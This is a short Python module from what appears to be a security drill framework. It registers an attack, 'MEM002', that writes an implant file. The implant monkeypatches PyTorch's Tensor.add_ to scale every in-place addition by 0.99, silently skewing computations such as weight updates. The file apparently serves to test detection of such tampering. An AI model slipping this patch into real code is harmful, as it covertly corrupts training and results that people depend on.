"""Gives tensors another method for one that they inherit from C."""

from __future__ import annotations

from pathlib import Path

from veristep.drill.attack import Attack
from veristep.drill.memory.implanting import write

_BODY = """\
def arrived(torch):
    original = torch.Tensor.add_
    def add_(self, other, *, alpha=1):
        return original(self, other, alpha=alpha * 0.99)
    torch.Tensor.add_ = add_
"""


def plant(folder: Path) -> Path:
    """Leave the implant."""
    return write(folder, _BODY)


ATTACK = Attack(
    "method of tensors replaced",
    "gives tensors another method for one that they inherit from C",
    "MEM002",
    plant,
    incident=(9,),
)
